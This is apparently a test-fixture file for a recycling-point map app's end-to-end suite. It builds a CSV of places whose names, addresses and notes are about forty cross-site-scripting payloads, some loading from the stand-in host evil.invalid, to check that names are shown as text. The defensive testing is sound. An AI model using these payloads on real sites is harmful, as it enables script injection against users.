// Places the tests know: two that never close, so that "open now" has an answer at any hour, and many with names that
// try to be code.

/** centre is where the city's distances are measured from. */
export const centre = [104.7745, 29.3403]

/** always is the nearest open place for a fridge, at any hour. */
export const always = {
  name: '同心路全天家电回收点',
  nameEn: 'Tongxin Road round-the-clock point',
  lon: 104.7751,
  lat: 29.3407,
}

const market = { name: '全天旧货市场', nameEn: 'Round-the-clock flea market', lon: 104.7739, lat: 29.3399 }

/** hostileAt is where the hostile places stand, far from all others. */
export const hostileAt = [104.3, 29.1]

/** payloads are names that would run as code wherever a name is put into a page as anything but text. */
export const payloads = [
  '<script>window.hacked=1</script>',
  '"><script>window.hacked=1</script>',
  '</script><script>window.hacked=1</script>',
  '</title><script>window.hacked=1</script>',
  '</style><script>window.hacked=1</script>',
  '</textarea><script>window.hacked=1</script>',
  '<ScRiPt >window.hacked=1</sCrIpT>',
  '<<script>window.hacked=1//<</script>',
  '<script src=//evil.invalid/x.js></script>',
  '<img src=x onerror=window.hacked=1>',
  '"><img src=x onerror=window.hacked=1>',
  "'><img src=x onerror='window.hacked=1'>",
  '<img src="javascript:window.hacked=1">',
  '<img/src=`x`onerror=window.hacked=1>',
  '<svg onload=window.hacked=1>',
  '<svg><script>window.hacked=1</script></svg>',
  '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>',
  '<body onload=window.hacked=1>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>">',
  '<a href="javascript:window.hacked=1">x</a>',
  '<details open ontoggle=window.hacked=1>',
  '<input autofocus onfocus=window.hacked=1>',
  '<video><source onerror=window.hacked=1>',
  '<object data="javascript:window.hacked=1">',
  '<link rel=stylesheet href=//evil.invalid/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid/">',
  '<base href=//evil.invalid/>',
  '<style>*{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src onerror=window.hacked=1>',
  '" onmouseover="window.hacked=1" x="',
  "' onfocus='window.hacked=1' tabindex='0",
  "'-window.hacked=1-'",
  '${window.hacked=1}{{constructor.constructor("window.hacked=1")()}}',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '--><script>window.hacked=1</script>',
  ']]><script>window.hacked=1</script>',
  '<!--><img src=x onerror=window.hacked=1>-->',
  '<div style="background:url(javascript:window.hacked=1)">',
  '<a href="data:text/html,<script>opener.hacked=1</script>" autofocus>x</a>',
  '<a href="jav&#x09;ascript&colon;window.hacked=1">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '＜script＞window.hacked=1＜/script＞\\u003cimg src=x onerror=window.hacked=1\\u003e',
]

const head = [
  'source',
  'key',
  'kind',
  'name',
  'nameEn',
  'lon',
  'lat',
  'accepts',
  'hours',
  'address',
  'phone',
  'operator',
  'notes',
]

/** csv writes rows under the columns the program knows. */
export function csv(rows) {
  const cell = v => `"${String(v ?? '').replace(/"/g, '""')}"`
  return `${[head, ...rows.map(r => head.map(h => r[h]))].map(r => r.map(cell).join(',')).join('\n')}\n`
}

/** row fills what every test place has. */
export const row = (key, more) => ({
  source: 'e2e',
  key,
  kind: 'community_point',
  accepts: 'paper;appliance_large;batteries',
  hours: '24/7',
  ...more,
})

/** placesCSV is the file the suite imports before it starts. */
export const placesCSV = () =>
  csv([
    row('always', { ...always, address: '同心路1号', phone: '0813-5550100' }),
    row('market', { ...market, kind: 'market', accepts: 'furniture;appliance', address: '同心路2号' }),
    ...payloads.map((text, i) =>
      row(`hostile-${i}`, {
        name: text,
        nameEn: text,
        address: `${text} ${i}`,
        operator: text,
        notes: text,
        lon: (hostileAt[0] + (i % 8) * 0.002).toFixed(6),
        lat: (hostileAt[1] + Math.floor(i / 8) * 0.002).toFixed(6),
      }),
    ),
  ])
